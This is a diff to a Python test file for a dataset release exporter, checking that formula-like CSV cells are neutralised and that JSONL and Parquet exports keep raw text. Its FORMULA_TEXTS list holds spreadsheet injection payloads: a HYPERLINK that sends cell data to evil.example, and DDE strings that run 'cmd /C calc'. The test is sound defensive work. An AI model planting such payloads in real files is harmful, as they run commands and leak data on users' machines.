@@ -205,3 +205,47 @@ def test_exports_of_a_draft_are_refused(taxonomy, media):
     draft = releases.release_create_draft(version="v251122", taxonomy="v251030")
     with pytest.raises(releases.ReleaseError):
         releases.release_export_start(release_id=draft.pk)
+
+
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"点我领取")',
+    "+cmd|' /C calc'!A0 请回答",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 制表符开头",
+    "\r=1+1 回车开头",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_while_jsonl_and_parquet_keep_the_raw_text(
+    taxonomy, freeze, media, hostile_strings
+):
+    texts = [*FORMULA_TEXTS, *(s for s in hostile_strings if "\x00" not in s)]
+    for text in texts:
+        approved_prompt(text, dimension="privacy", reference_answers=["=1+1"], metadata={"tags": ["-x"]})
+    approved_prompt("-12.5", dimension="privacy")  # a plain number is left as the number
+    release = freeze(version="v251124", holdout_fraction=0, parent=None)
+    exports = _files(release)
+    raw = releases.export_path(exports["csv"]).read_bytes().decode("utf-8-sig")
+    rows = {row["question_id"]: row for row in csv.DictReader(io.StringIO(raw, newline=""))}
+    stored = dict(release.items.values_list("public_id", "text"))
+    for public_id, text in stored.items():
+        cell = rows[public_id]["question_text"]
+        if text in FORMULA_TEXTS:
+            assert cell == "'" + text
+        else:
+            assert cell == text
+    assert rows[next(p for p, t in stored.items() if t == "-12.5")]["question_text"] == "-12.5"
+    assert {row["metadata.tags"] for row in rows.values()} <= {"'-x", ""}
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows.values() for cell in row.values())
+
+    lines = releases.export_path(exports["jsonl"]).read_text(encoding="utf-8").splitlines()
+    assert {json.loads(line)["question_id"]: json.loads(line)["question_text"] for line in lines} == stored
+    parquet = pd.read_parquet(releases.export_path(exports["parquet"]))
+    assert dict(zip(parquet["question_id"], parquet["question_text"], strict=True)) == stored
+    assert [t.encode("utf-8") for t in parquet["question_text"]] == [stored[p].encode("utf-8") for p in parquet["question_id"]]
+
+    card = releases.export_path(exports["readme"]).read_text(encoding="utf-8")
+    assert "`livesec-v251124.csv` is spreadsheet-safe" in card
+    assert "use `livesec-v251124.jsonl` or `livesec-v251124.parquet`: both hold every text byte for byte" in card
+    assert releases.release_verify(version=release.version).ok
